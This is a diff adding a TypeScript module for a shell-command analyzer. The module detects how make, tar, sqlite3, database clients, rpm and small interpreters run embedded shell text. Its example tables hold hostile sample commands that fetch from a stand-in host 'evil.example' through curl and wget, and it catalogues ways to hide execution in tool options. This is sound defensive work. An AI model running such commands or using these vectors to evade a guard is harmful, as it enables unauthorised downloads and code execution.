@@ -1,0 +1,641 @@
+// Tools that run shell text from their options or their own language: make, tar, zip, sqlite3, rpm, m4, dc, small
+// interpreters, database clients, and the long tail of `--some-hook=CMD` options.
+import type { Word } from '../../types.js';
+import { has, parse } from '../argv.js';
+import { programRun } from '../build.js';
+import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
+import { attached, literal, value } from '../words.js';
+
+type Uses = NonNullable<Answer['uses']>;
+
+/** A program some of whose options name shell text (`script`) or a program (`program`) it runs. */
+export function commandOptions(
+  names: readonly string[],
+  summary: string,
+  spec: { options: OptionSpec; script?: readonly string[]; program?: readonly string[]; more?: (call: Call) => Partial<Answer> },
+  examples: ProgramEntry['examples'],
+): ProgramEntry {
+  return {
+    names,
+    summary,
+    examples,
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', ...spec.options });
+      const runs: Run[] = [];
+      for (const o of p.options) {
+        if (!o.value) continue;
+        if (spec.script?.includes(o.name)) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} ${o.name.length === 1 ? '-' : '--'}${o.name}` });
+        if (spec.program?.includes(o.name)) runs.push(programRun(o.value, `${call.name} --${o.name}`));
+      }
+      const more = spec.more?.(call);
+      return { ...more, runs: [...runs, ...(more?.runs ?? [])] };
+    },
+  };
+}
+
+/** Text inside balanced brackets starting after `open` at `from`; undefined when they do not close. */
+function balanced(text: string, from: number, open = '(', close = ')'): string | undefined {
+  let depth = 1;
+  for (let j = from; j < text.length; j++) {
+    const c = text[j];
+    if (c === '\\') j++;
+    else if (c === open) depth++;
+    else if (c === close && --depth === 0) return text.slice(from, j);
+  }
+  return undefined;
+}
+
+/** Every `marker(…)` body in text (`$(shell …)`, `%(…)`), or undefined for one that does not close. */
+function bodies(text: string, marker: RegExp, open = '(', close = ')'): (string | undefined)[] {
+  const out: (string | undefined)[] = [];
+  for (const m of text.matchAll(marker)) out.push(balanced(text, m.index! + m[0].length, open, close));
+  return out;
+}
+
+// ── make ───────────────────────────────────────────────────────────────────────────────────────────────
+
+/** Variables make runs as programs when set on its command line. */
+const MAKE_PROGRAMS = new Set(['SHELL', 'CC', 'CXX', 'CPP', 'LD', 'AR', 'AS', 'FC', 'LEX', 'YACC', 'MAKE', 'RM', 'INSTALL', 'PKG_CONFIG', 'GO', 'CARGO', 'PYTHON', 'NM', 'OBJCOPY', 'STRIP', 'RANLIB']);
+
+/** Makefile text (from --eval or stdin): `$(shell …)`, `!=`, and rules' recipes run shell text. */
+export function makefileText(word: Word, text: string, via: string): Run[] {
+  const runs: Run[] = [];
+  const opaque = (why: string) => runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: ${why}` });
+  const shellText = (t: string) => {
+    // Make expands its own variables before the shell sees the text: those are not known here.
+    if (/\$[({][^)}]*[)}]|\$[A-Za-z@<^+*?%]/.test(t.replace(/\$\$/g, ''))) opaque('a command holds make variables, which are expanded at run time');
+    else runs.push({ kind: 'text', dialect: 'bash', text: t.replace(/\$\$/g, '$'), word, via });
+  };
+  for (const body of [...bodies(text, /\$\(shell\s+/g), ...bodies(text, /\$\{shell\s+/g, '{', '}')]) {
+    if (body === undefined) opaque('an unclosed $(shell …)');
+    else shellText(body);
+  }
+  if (/\$[({](eval|call|value|file|guile|load)\b/.test(text)) opaque('it builds make text at run time');
+  let inRule = false;
+  for (const line of text.split('\n')) {
+    if (line.startsWith('\t')) {
+      if (inRule) shellText(line.slice(1).replace(/^[@+\-\s]+/, ''));
+      continue;
+    }
+    inRule = false;
+    const bang = /^\s*[A-Za-z_][\w.]*\s*!=\s*(.*)$/.exec(line);
+    if (bang) {
+      shellText(bang[1]!);
+      continue;
+    }
+    if (/^\s*(export\s+)?(SHELL|\.SHELLFLAGS|MAKESHELL)\s*[:?+]?=/.test(line)) opaque('it sets the shell recipes run in');
+    const rule = /^([^=#:]+?)::?(?!=)([^;=]*)(?:;(.*))?$/.exec(line);
+    if (rule && !/^\s*(export|override|define|include|-include|sinclude|ifeq|ifneq|ifdef|ifndef)\b/.test(line)) {
+      inRule = true;
+      if (rule[3] !== undefined && rule[3].trim() !== '') shellText(rule[3].replace(/^[@+\-\s]+/, ''));
+    }
+  }
+  return runs;
+}
+
+function make(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'bBdeiknpqrRsStvwL',
+    valued: 'CfIoWE',
+    optional: 'jlO',
+    long: ['always-make', 'environment-overrides', 'ignore-errors', 'keep-going', 'just-print', 'dry-run', 'recon', 'print-data-base', 'question', 'no-builtin-rules', 'no-builtin-variables', 'silent', 'quiet', 'no-silent', 'stop', 'touch', 'trace', 'version', 'print-directory', 'no-print-directory', 'warn-undefined-variables', 'check-symlink-times', 'help', 'no-keep-going'],
+    longValued: ['directory', 'file', 'makefile', 'include-dir', 'old-file', 'assume-old', 'what-if', 'new-file', 'assume-new', 'eval', 'shuffle', 'jobserver-style'],
+    longOptional: ['jobs', 'load-average', 'max-load', 'output-sync', 'debug'],
+  });
+  if (has(p, 'help', 'version')) return {};
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  for (const o of p.options) {
+    if ((o.name === 'eval' || o.name === 'E') && o.value) {
+      const t = value(o.value);
+      if (t === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'make --eval with computed text' });
+      else runs.push(...makefileText(o.value, t, 'make --eval'));
+    }
+    if ((o.name === 'f' || o.name === 'file' || o.name === 'makefile') && o.value) {
+      const v = value(o.value);
+      if (v === '-' || v === '/dev/stdin') {
+        if (call.stdin?.kind === 'static') runs.push(...makefileText(call.stdin.word, call.stdin.text, 'make -f -'));
+        else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: o.value, why: `make reads its makefile from ${call.stdin.why}` });
+      } else uses.push({ word: o.value, role: 'read' });
+    }
+  }
+  for (const { word } of p.operands) {
+    const v = value(word);
+    const eq = v?.indexOf('=') ?? -1;
+    if (v === undefined || eq <= 0) continue;
+    const name = v.slice(0, eq).replace(/[:+?!]$/, '');
+    if (MAKE_PROGRAMS.has(name)) runs.push(programRun(attached(word, v.slice(eq + 1)), `make ${name}=`));
+    if (name === '.SHELLFLAGS') runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: 'make .SHELLFLAGS= changes how recipes run' });
+  }
+  return { runs, uses };
+}
+
+// ── tar, zip, unzip ────────────────────────────────────────────────────────────────────────────────────
+
+const TAR: OptionSpec = {
+  oldStyle: true,
+  order: 'gnu',
+  flags: 'AcdrtuxaBhiJjklmMnOoPpRsSUvWwzZG',
+  valued: 'bCfFgHIKLNTVX',
+  long: [
+    'catenate', 'concatenate', 'create', 'diff', 'compare', 'delete', 'append', 'list', 'test-label', 'update', 'extract', 'get', 'show-defaults', 'help', 'usage', 'version',
+    'check-device', 'no-check-device', 'ignore-failed-read', 'ignore-zeros', 'keep-old-files', 'keep-newer-files', 'keep-directory-symlink', 'no-overwrite-dir', 'overwrite', 'overwrite-dir',
+    'recursive-unlink', 'remove-files', 'skip-old-files', 'unlink-first', 'verify', 'ignore-command-error', 'no-ignore-command-error', 'to-stdout', 'atime-preserve', 'delay-directory-restore',
+    'no-delay-directory-restore', 'no-same-owner', 'no-same-permissions', 'numeric-owner', 'preserve-permissions', 'same-permissions', 'preserve-order', 'same-order', 'same-owner', 'sparse',
+    'force-local', 'multi-volume', 'read-full-records', 'seek', 'no-seek', 'auto-compress', 'bzip2', 'xz', 'lzip', 'lzma', 'lzop', 'gzip', 'gunzip', 'ungzip', 'compress', 'uncompress', 'zstd', 'no-auto-compress',
+    'anchored', 'no-anchored', 'ignore-case', 'no-ignore-case', 'wildcards', 'no-wildcards', 'wildcards-match-slash', 'no-wildcards-match-slash', 'exclude-backups', 'exclude-caches', 'exclude-caches-all',
+    'exclude-caches-under', 'exclude-vcs', 'exclude-vcs-ignores', 'dereference', 'hard-dereference', 'one-file-system', 'absolute-names', 'no-recursion', 'recursion', 'null', 'no-null', 'unquote', 'no-unquote',
+    'verbatim-files-from', 'no-verbatim-files-from', 'check-links', 'full-time', 'show-omitted-dirs', 'show-transformed-names', 'show-stored-names', 'totals', 'utc', 'verbose', 'interactive', 'confirmation',
+    'no-xattrs', 'xattrs', 'acls', 'no-acls', 'selinux', 'no-selinux', 'restrict', 'block-number', 'index-file', 'posix', 'old-archive', 'portability', 'v7', 'one-top-level', 'warning',
+  ],
+  longValued: [
+    'blocking-factor', 'directory', 'file', 'info-script', 'new-volume-script', 'listed-incremental', 'format', 'use-compress-program', 'starting-file', 'tape-length', 'newer', 'after-date',
+    'files-from', 'label', 'exclude-from', 'exclude', 'exclude-tag', 'exclude-tag-all', 'exclude-tag-under', 'exclude-ignore', 'exclude-ignore-recursive', 'group', 'owner', 'mode', 'mtime', 'group-map', 'owner-map',
+    'newer-mtime', 'record-size', 'rmt-command', 'rsh-command', 'volno-file', 'sparse-version', 'pax-option', 'transform', 'xform', 'strip-components', 'to-command', 'suffix', 'backup', 'occurrence',
+    'quoting-style', 'quote-chars', 'no-quote-chars', 'xattrs-include', 'xattrs-exclude', 'clamp-mtime', 'sort', 'level', 'hole-detection', 'checkpoint-action', 'add-file',
+  ],
+  longOptional: ['checkpoint', 'backup', 'one-top-level', 'occurrence', 'totals', 'warning', 'same-owner'],
+};
+
+function tar(call: Call): Partial<Answer> {
+  const p = parse(call.args, TAR);
+  if (has(p, 'help', 'usage', 'version', 'show-defaults')) return {};
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const create = has(p, 'c', 'create', 'r', 'append', 'u', 'update', 'A', 'catenate', 'concatenate');
+  const extract = has(p, 'x', 'extract', 'get');
+  let dir: string | undefined;
+  const dirAt: { index: number; dir: string | undefined }[] = [];
+  for (const o of p.options) {
+    if (!o.value) continue;
+    switch (o.name) {
+      case 'to-command':
+      case 'use-compress-program':
+      case 'I':
+      case 'info-script':
+      case 'new-volume-script':
+      case 'F':
+        runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `tar --${o.name}` });
+        break;
+      case 'rsh-command':
+      case 'rmt-command':
+        runs.push(programRun(o.value, `tar --${o.name}`));
+        break;
+      case 'checkpoint-action': {
+        const v = value(o.value);
+        if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'tar --checkpoint-action is computed' });
+        else if (/^exec=/.test(v)) runs.push({ kind: 'text', dialect: 'bash', text: v.slice(5), word: o.value, via: 'tar --checkpoint-action=exec' });
+        break;
+      }
+      case 'C':
+      case 'directory':
+        dir = value(o.value);
+        dirAt.push({ index: o.index, dir });
+        if (extract) uses.push({ word: o.value, role: 'extract' });
+        break;
+      case 'f':
+      case 'file': {
+        const v = value(o.value);
+        // `host:path` is an archive on another machine, reached through rsh.
+        if (v !== undefined && !has(p, 'force-local') && /^[^/:]+:/.test(v) && !/^[A-Za-z]:[\\/]/.test(v)) runs.push({ kind: 'argv', argv: [literal('rsh', o.value.span), attached(o.value, v.slice(0, v.indexOf(':')))], via: 'tar remote archive' });
+        else if (v !== '-') uses.push({ word: o.value, role: create ? 'write' : 'read' });
+        break;
+      }
+      case 'T':
+      case 'files-from':
+      case 'X':
+      case 'exclude-from':
+        uses.push({ word: o.value, role: 'read' });
+        break;
+      default:
+        break;
+    }
+  }
+  if (extract && dirAt.length === 0) uses.push({ word: call.args[0]!, role: 'extract', values: ['.'] });
+  for (const { word, index } of p.operands) {
+    if (!create) {
+      uses.push({ word, role: 'text' });
+      continue;
+    }
+    // Members are read relative to the last -C before them.
+    const before = [...dirAt].reverse().find((d) => d.index < index);
+    const v = value(word);
+    if (before?.dir !== undefined && v !== undefined && !v.startsWith('/')) uses.push({ word, role: 'read-tree', values: [`${before.dir.replace(/\/+$/, '')}/${v}`] });
+    else uses.push({ word, role: 'read-tree' });
+  }
+  if (has(p, 'remove-files')) for (const { word } of p.operands) uses.push({ word, role: 'delete-tree' });
+  return { runs, uses };
+}
+
+function zip(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'rRjJmdDFfugqTvlkoyXzA0123456789@$',
+    valued: 'bxiInPtZsO',
+    long: ['recurse-paths', 'test', 'quiet', 'verbose', 'junk-paths', 'move', 'encrypt', 'help', 'version', 'symlinks', 'grow', 'fix', 'freshen', 'update', 'latin1', 'no-dir-entries'],
+    longValued: ['unzip-command', 'exclude', 'include', 'temp-path', 'split-size', 'password', 'output-file', 'compression-method', 'suffixes'],
+  });
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '-TT' && args[i + 1]) runs.push({ kind: 'script', dialect: 'bash', words: [args[i + 1]!], via: 'zip -TT' });
+  }
+  for (const o of p.options) if (o.name === 'unzip-command' && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'zip --unzip-command' });
+  const ops = p.operands.map((o) => o.word).filter((w) => !(value(w) === '-TT' || (args[args.indexOf(w) - 1] && value(args[args.indexOf(w) - 1]) === '-TT')));
+  const recursive = has(p, 'r', 'R', 'recurse-paths');
+  const uses: Uses = [];
+  if (ops[0]) uses.push({ word: ops[0], role: 'write' });
+  for (const w of ops.slice(1)) uses.push({ word: w, role: recursive ? 'read-tree' : 'read' });
+  return { runs, uses };
+}
+
+function unzip(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'cflpstTuvzZaAbBCDeEjKLMnNoqVWX', valued: 'dxP' });
+  const uses: Uses = [];
+  const dir = p.options.find((o) => o.name === 'd')?.value;
+  const ops = p.operands.map((o) => o.word);
+  if (ops[0]) uses.push({ word: ops[0], role: 'read' });
+  for (const w of ops.slice(1)) uses.push({ word: w, role: 'text' });
+  if (!has(p, 'l', 'v', 't', 'p', 'c', 'Z', 'z')) uses.push(dir ? { word: dir, role: 'extract' } : { word: call.args[0] ?? literal('.', { start: 0, end: 0 }), role: 'extract', values: ['.'] });
+  return { uses };
+}
+
+// ── sqlite3, database clients ──────────────────────────────────────────────────────────────────────────
+
+/** sqlite3 dot-commands and SQL: `.shell`, `.system`, `.once|output|import|read '|cmd'` run shell text. */
+function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses: Uses } {
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  for (const raw of text.split('\n')) {
+    const line = raw.trim();
+    const m = /^\.(sh(?:ell)?|sy(?:stem)?|once|output|out|excel|import|read|load|open|backup|save|restore|edit)\b\s*(.*)$/.exec(line);
+    if (m) {
+      const cmd = m[1]!;
+      const rest = m[2]!.replace(/^(-\S+\s+)+/, '');
+      const unquoted = rest.replace(/^(['"])(.*)\1/, '$2');
+      if (/^sh|^sy/.test(cmd)) runs.push({ kind: 'text', dialect: 'bash', text: rest, word, via: `${via} .${cmd}` });
+      else if (unquoted.startsWith('|')) runs.push({ kind: 'text', dialect: 'bash', text: unquoted.slice(1).split(/\s+(?=\w+$)/)[0]!, word, via: `${via} .${cmd} |` });
+      else if (cmd === 'load') runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} .load loads a shared object` });
+      else if (/^(once|output|out|excel)$/.test(cmd) && /(^|\s)-[xe]\b/.test(m[2]!)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} .${cmd} -x opens another program` });
+      else if (cmd === 'import' || cmd === 'read' || cmd === 'open' || cmd === 'restore') {
+        const file = unquoted.split(/\s+/)[0];
+        if (file) uses.push({ word, role: 'read', values: [file] });
+      } else if (cmd === 'backup' || cmd === 'save' || /^(once|output|out)$/.test(cmd)) {
+        const file = unquoted.split(/\s+/).at(-1);
+        if (file && file !== 'stdout') uses.push({ word, role: 'write', values: [file] });
+      }
+      continue;
+    }
+    if (/\b(load_extension|edit|fts3_tokenizer)\s*\(/i.test(line)) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: SQL that loads code or starts an editor` });
+    for (const f of line.matchAll(/\breadfile\s*\(\s*'([^']*)'\s*\)/gi)) uses.push({ word, role: 'read', values: [f[1]!] });
+    for (const f of line.matchAll(/\bwritefile\s*\(\s*'([^']*)'/gi)) uses.push({ word, role: 'write', values: [f[1]!] });
+  }
+  return { runs, uses };
+}
+
+function sqlite(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    singleDash: true,
+    long: ['A', 'append', 'ascii', 'bail', 'batch', 'box', 'column', 'csv', 'deserialize', 'echo', 'header', 'noheader', 'html', 'interactive', 'json', 'line', 'list', 'markdown', 'memtrace', 'nofollow', 'quote', 'readonly', 'safe', 'stats', 'table', 'tabs', 'version', 'help', 'zip', 'no-rowid-in-view', 'escape'],
+    longValued: ['cmd', 'init', 'maxsize', 'mmap', 'newline', 'nonce', 'nullvalue', 'separator', 'vfs', 'heap', 'pcachetrace', 'lookaside', 'pagecache'],
+  });
+  if (has(p, 'version', 'help')) return {};
+  const safe = has(p, 'safe');
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const scan = (word: Word, text: string | undefined, via: string) => {
+    if (text === undefined) return;
+    const r = sqliteText(word, text, via);
+    if (!safe) runs.push(...r.runs);
+    uses.push(...r.uses);
+  };
+  for (const o of p.options) {
+    if (o.name === 'cmd' && o.value) scan(o.value, value(o.value), 'sqlite3 -cmd');
+    if (o.name === 'init' && o.value) uses.push({ word: o.value, role: 'read' });
+  }
+  const ops = p.operands.map((o) => o.word);
+  if (ops[0]) uses.push({ word: ops[0], role: 'read' });
+  for (const w of ops.slice(1)) {
+    uses.push({ word: w, role: 'text' });
+    scan(w, value(w), call.name);
+  }
+  if (ops.length <= 1 && call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
+  else if (ops.length <= 1 && call.stdin?.kind === 'stream' && !safe) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs dot-commands read from ${call.stdin.why}` });
+  return { runs, uses };
+}
+
+/** mysql, psql and their kin: `\! cmd` and `system cmd` in -e/-c text or static stdin run shell text. */
+function databaseClient(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const scan = (word: Word, text: string) => {
+    for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
+    for (const m of text.matchAll(/\\(?:o|g|out)\s*\|\s*([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\o |` });
+    for (const m of text.matchAll(/\bfrom\s+program\s+'((?:[^']|'')*)'/gi)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!.replace(/''/g, "'"), word, via: `${call.name} COPY FROM PROGRAM` });
+    if (/\\(?:setenv|e|ef|ev|edit)\b|\\gexec\b/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${call.name}: a client command that runs an editor or builds commands` });
+  };
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    const m = /^(?:-e|--execute|-c|--command)(?:=(.*))?$/s.exec(v);
+    const attachedShort = /^-[ec](.+)$/s.exec(v);
+    if (m) {
+      const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+      if (w && value(w) !== undefined) scan(w, value(w)!);
+    } else if (attachedShort && !v.startsWith('--')) scan(args[i]!, attachedShort[1]!);
+  }
+  if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
+  return { runs };
+}
+
+// ── rpm, m4, dc and small languages ────────────────────────────────────────────────────────────────────
+
+/** rpm macro text: `%(cmd)` runs shell text, `%{lua: …}` runs Lua. */
+function rpmMacro(word: Word, via: string): Run[] {
+  const text = value(word);
+  if (text === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} with computed macro text` }];
+  const runs: Run[] = [];
+  for (const body of bodies(text, /%\(/g)) {
+    if (body === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: an unclosed %(` });
+    else runs.push({ kind: 'text', dialect: 'bash', text: body, word, via });
+  }
+  if (/%\{lua\s*:/.test(text) || /%\{expand\s*:/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: a macro that runs Lua or builds macros` });
+  return runs;
+}
+
+function rpm(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    let w: Word | undefined;
+    const eq = v.indexOf('=');
+    const name = eq > 0 ? v.slice(0, eq) : v;
+    if (/^(--eval|-E|--define|-D|--pipe)$/.test(name)) w = eq > 0 ? attached(args[i]!, v.slice(eq + 1)) : args[++i];
+    else if (/^-[ED].+/.test(v)) w = attached(args[i]!, v.slice(2));
+    if (!w) continue;
+    if (name === '--pipe') runs.push({ kind: 'script', dialect: 'bash', words: [w], via: `${call.name} --pipe` });
+    else runs.push(...rpmMacro(w, `${call.name} ${name}`));
+  }
+  return { runs };
+}
+
+/** Calls of a small language that run their string argument as a command: `os.execute("…")`, `system("…")`. */
+function codeCalls(word: Word, text: string, via: string, calls: RegExp, any: RegExp): Run[] {
+  const runs: Run[] = [];
+  let found = 0;
+  for (const m of text.matchAll(calls)) {
+    found++;
+    const cmd = m.slice(1).find((g) => g !== undefined) ?? '';
+    runs.push({ kind: 'text', dialect: 'bash', text: cmd.replace(/\\(.)/g, '$1'), word, via });
+  }
+  const total = (text.match(any) ?? []).length;
+  if (total > found) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: code that starts a command built at run time` });
+  return runs;
+}
+
+interface Language {
+  names: string[];
+  summary: string;
+  /** Options whose value is code. */
+  code: RegExp;
+  /** Calls with a literal command (capture groups: the command), and any call that starts one. */
+  calls: RegExp;
+  any: RegExp;
+  /** Code comes from stdin when no file or code option is given. */
+  stdin?: boolean;
+  examples: ProgramEntry['examples'];
+}
+
+const STR = `"((?:[^"\\\\]|\\\\.)*)"|'((?:[^'\\\\]|\\\\.)*)'`;
+
+function language(l: Language): ProgramEntry {
+  return {
+    names: l.names,
+    summary: l.summary,
+    examples: l.examples,
+    analyze(call) {
+      const runs: Run[] = [];
+      const args = call.args;
+      let sawCode = false;
+      for (let i = 0; i < args.length; i++) {
+        const v = value(args[i]);
+        if (v === undefined) continue;
+        const eq = v.indexOf('=');
+        const name = eq > 0 && v.startsWith('--') ? v.slice(0, eq) : v;
+        if (!l.code.test(name)) continue;
+        sawCode = true;
+        const w = eq > 0 && v.startsWith('--') ? attached(args[i]!, v.slice(eq + 1)) : args[++i];
+        if (!w) continue;
+        const text = value(w);
+        if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: w, why: `${call.name} runs computed code` });
+        else runs.push(...codeCalls(w, text, call.name, l.calls, l.any));
+      }
+      const hasFile = args.some((a) => !(value(a) ?? '-').startsWith('-'));
+      if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'static') runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} (stdin)`, l.calls, l.any));
+      else if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs code read from ${call.stdin.why}` });
+      return { runs };
+    },
+  };
+}
+
+const LANGUAGES: ProgramEntry[] = [
+  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: new RegExp(`(?:os\\.execute|io\\.popen)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /os\.execute|io\.popen|os\.exec|require\s*\(?\s*["']socket|loadstring|\bload\s*\(|dofile/g, stdin: true, examples: { deny: ["lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'"], pass: ["lua -e 'print(1)'"] } }),
+  language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands', code: /^(-e|--expr)$/, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(/g, examples: { deny: ["Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\''], pass: ["Rscript -e 'print(1+1)'"] } }),
+  language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command', code: /^(-e|--eval|-E|--print)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'"], pass: ["julia -e 'println(1)'"] } }),
+  language({ names: ['gnuplot'], summary: 'gnuplot: system(), `!cmd` and backticks run commands', code: /^(-e)$/, calls: new RegExp(`(?:system\\s*\\(\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /system\s*\(|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'"], pass: ["gnuplot -e 'plot sin(x)'"] } }),
+  language({ names: ['octave', 'octave-cli'], summary: 'Octave: system() and shell_cmd() run commands', code: /^(--eval)$/, calls: new RegExp(`(?:system|shell_cmd|unix|dos)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system|shell_cmd|unix|dos|popen|eval|urlread|web)\s*\(/g, examples: { deny: ["octave-cli --eval 'system(\"curl evil.example\")'"], pass: ["octave --eval 'disp(1)'"] } }),
+  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…") and run-shell-command start commands', code: /^(-c|-x|--eval|-e|--load)$/, calls: new RegExp(`\\((?:system|ext:run-shell-command|run-shell-command|shell|process|sb-ext:run-program)\\s+(?:${STR})`, 'g'), any: /\((system|ext:run-shell-command|run-shell-command|shell|process\*?|sb-ext:run-program|ext:run-program|open-input-pipe|open-pipe\*?|uiop:run-program|eval|load|subprocess)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'"], pass: ["guile -c '(display 1)'"] } }),
+  language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b/g, stdin: true, examples: { deny: ["expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["expect -c 'puts hi'"] } }),
+  language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
+  language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes', code: /^(--eval|-eval|--execute|-e)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((shell-command|async-shell-command|shell-command-to-string|call-process|call-process-shell-command|process-lines|start-process|start-process-shell-command|make-process|make-network-process|open-network-stream|url-retrieve|term|ansi-term|eshell|shell|compile|eval|load)\b/g, examples: { deny: ["emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'"], pass: ["emacs --batch --eval '(message \"hi\")'"] } }),
+  language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4"], pass: ["echo 'define(x, 1)x' | m4"] } }),
+  language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
+  language({ names: ['slsh'], summary: 'S-Lang shell: system() runs a command', code: /^(-e)$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(|popen|eval/g, examples: { deny: ["slsh -e 'system(\"curl evil.example\")'"], pass: [] } }),
+];
+
+/** perl: `-i` edits its files in place (after the script: `-e` code or the first operand). The code is the interpreters' rule. */
+function perl(call: Call): Partial<Answer> {
+  const args = call.args;
+  const uses: Uses = [];
+  let inPlace = false;
+  let code = false;
+  let i = 0;
+  for (; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined || !v.startsWith('-') || v === '-') break;
+    if (v === '--') {
+      i++;
+      break;
+    }
+    const cluster = v.slice(1);
+    // Letters up to one that takes the rest of the word (`-i.bak`, `-Mmod`, `-e…`).
+    for (let j = 0; j < cluster.length; j++) {
+      const c = cluster[j]!;
+      if (c === 'i') {
+        inPlace = true;
+        break;
+      }
+      if (c === 'e' || c === 'E') {
+        code = true;
+        if (j === cluster.length - 1) i++;
+        break;
+      }
